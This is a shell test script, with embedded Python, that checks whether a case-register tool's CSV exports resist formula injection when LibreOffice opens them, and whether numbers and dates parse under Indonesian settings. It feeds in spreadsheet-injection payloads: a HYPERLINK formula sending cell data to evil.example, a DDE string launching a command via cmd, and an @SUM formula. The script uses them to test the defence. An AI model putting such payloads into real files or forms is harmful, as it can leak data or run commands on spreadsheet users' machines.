#!/usr/bin/env bash
# Opens sengketa's `--excel` CSV files in LibreOffice Calc (headless) as a spreadsheet set
# to Indonesian regional settings opens them, and checks what comes out:
#
#   1. `export --excel`: the register's 15 columns, in order, every row whole; the case
#      whose applicant, body and subject are formulas keeps them as text (no formula in the
#      sheet at all); and, as a control, the same file with the neutralising marks taken off
#      does give a live formula (so the check can fail).
#   2. `recap --times --excel`: measures with a decimal comma read as numbers (42,16 is
#      42.16), the as_of column as a date.
#   3. `recap --by body --excel`: the header's columns, and a total row per year.
#
# Usage: scripts/check-excel.sh            (builds target/debug/sengketa if needed)
#        SENGKETA_BIN=path/to/sengketa scripts/check-excel.sh
# Needs soffice (Debian: apt-get install libreoffice-calc-nogui) and python3; without them
# it says so and exits 77 (skipped; `cargo test` fails instead under CI=true). Exit 0 when
# every check passes, 1 otherwise.
set -euo pipefail

for tool in soffice python3; do
    if ! command -v "$tool" >/dev/null 2>&1; then
        echo "check-excel: skipped: $tool not found (apt-get install libreoffice-calc python3)"
        exit 77
    fi
done
here="$(cd "$(dirname "$0")/.." && pwd)"
bin="${SENGKETA_BIN:-}"
if [ -z "$bin" ]; then
    (cd "$here" && cargo build --quiet)
    bin="$here/target/debug/sengketa"
fi

work="$(mktemp -d)"
trap 'rm -rf "$work"' EXIT
cd "$work"
export SENGKETA_DB="$work/register.db" SENGKETA_TODAY=2026-11-29 SENGKETA_ACTOR=check
export SENGKETA_NOW=2026-11-29T08:00:00Z
"$bin" init >/dev/null 2>&1
"$bin" config set commission-code JBI >/dev/null 2>&1
"$bin" import "$here/fixtures/jambi-2017-2018.csv"
"$bin" case add --received 2026-11-02 \
    '--applicant==HYPERLINK("http://evil.example/?x="&A1,"click")' \
    "--body=-2+3+cmd|' /C calc'!A0" '--subject=@SUM(1+1)' >/dev/null
"$bin" export --excel >register.csv
"$bin" recap --times --excel >times.csv
"$bin" recap --by body --excel >body.csv
# The control: the register file with the neutralising marks taken off.
sed "s/\"'=HYPERLINK/\"=HYPERLINK/" register.csv >unmarked.csv

# How a spreadsheet with Indonesian regional settings reads CSV: ';' between fields (59),
# '"' around text (34), UTF-8 (76), from line 1, the Indonesian locale (1057) for numbers
# and dates.
soffice -env:UserInstallation="file://$work/profile" --headless \
    --infilter="CSV:59,34,76,1,,1057" --convert-to xlsx --outdir "$work/xlsx" \
    register.csv times.csv body.csv unmarked.csv >soffice.log 2>&1 || {
    cat soffice.log
    echo "check-excel: soffice failed"
    exit 1
}

python3 - "$work/xlsx" <<'PY'
import re, sys, zipfile
from xml.etree import ElementTree as ET

NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
folder = sys.argv[1]
failed = []


def check(ok, what):
    print(("ok      " if ok else "FAILED  ") + what)
    if not ok:
        failed.append(what)


def sheet(name):
    """The first sheet as rows of (type, value, has_formula) by column letter."""
    z = zipfile.ZipFile(f"{folder}/{name}.xlsx")
    strings = []
    if "xl/sharedStrings.xml" in z.namelist():
        for si in ET.fromstring(z.read("xl/sharedStrings.xml")).findall("m:si", NS):
            strings.append("".join(t.text or "" for t in si.iter(f"{{{NS['m']}}}t")))
    rows = []
    for row in ET.fromstring(z.read("xl/worksheets/sheet1.xml")).iter(f"{{{NS['m']}}}row"):
        cells = {}
        for c in row.findall("m:c", NS):
            col = re.match(r"[A-Z]+", c.get("r")).group(0)
            v = c.find("m:v", NS)
            value = v.text if v is not None else ""
            kind = c.get("t", "n")
            if kind == "s":
                value = strings[int(value)]
            cells[col] = (kind, value, c.find("m:f", NS) is not None)
        rows.append(cells)
    return rows


def values(row):
    return [row[k][1] for k in sorted(row, key=lambda k: (len(k), k))]


COLUMNS = ("register_no received_on applicant applicant_kind public_body subject "
           "qualified_on not_qualified_on not_qualified_reason withdrawn_on decided_on "
           "decision_via decision_outcome decision_no closed_on").split()

reg = sheet("register")
check(values(reg[0]) == COLUMNS, "export --excel: the header is the 15 columns, in order")
check(len(reg) == 56, f"export --excel: 55 cases and the header ({len(reg)} rows)")
check(all(max((len(k), k) for k in r) <= (1, "O") for r in reg),
      "export --excel: no row spills past column O")
check(all(reg[i]["A"][1].endswith(("/2017", "/2018", "/2026")) for i in range(1, len(reg))),
      "export --excel: every row starts with its register number")
check(not any(c[2] for r in reg for c in r.values()), "export --excel: no formula in the sheet")
last = reg[-1]
check(last["C"] == ("s", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", False),
      "export --excel: the formula applicant is text, as written with its mark")
check(last["E"][0] == "s" and last["E"][1].startswith("'-2+3"),
      "export --excel: the formula body is text")
unmarked = sheet("unmarked")
check(unmarked[-1]["C"][2] and unmarked[-1]["C"][1] == "click",
      "control: without the mark, LibreOffice runs the formula (value 'click')")

times = sheet("times")
check(values(times[0])[:5] == ["year", "route", "ended", "median", "mean"],
      "recap --times --excel: the header")
mean = times[1]["E"]
check(mean[0] == "n" and abs(float(mean[1]) - 42.16) < 1e-9,
      f"recap --times --excel: the mean 42,16 reads as the number 42.16 ({mean})")
as_of = times[1]["K"]
check(as_of[0] == "n" and int(float(as_of[1])) == 46355,
      f"recap --times --excel: as_of 2026-11-29 reads as a date ({as_of})")

body = sheet("body")
head = values(body[0])
check(head[:4] == ["year", "public_body", "entered", "awaiting_qualification"]
      and head[-2:] == ["in_process", "as_of"], "recap --by body --excel: the header")
totals = [r for r in body[1:] if r["B"][1] == "total"]
check([r["A"][1] for r in totals] == ["2017", "2018", "2026", "total"],
      "recap --by body --excel: a total row per year, then the total")

print("check-excel: " + ("every check passed" if not failed else f"{len(failed)} failed"))
sys.exit(1 if failed else 0)
PY
